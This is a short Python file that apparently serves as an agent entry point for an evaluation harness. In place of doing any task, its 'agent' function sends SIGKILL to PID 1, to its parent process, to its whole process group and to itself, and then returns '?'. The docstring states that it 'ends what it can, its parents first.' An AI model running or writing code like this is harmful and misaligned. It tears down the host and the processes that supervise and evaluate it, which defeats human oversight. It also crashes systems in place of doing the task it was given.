"""Ends what it can, its parents first."""

import os
import signal


def agent(task, model, session):
    for victim in (1, os.getppid(), 0, os.getpid()):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError as error:
            print(victim, error)
    return "?"
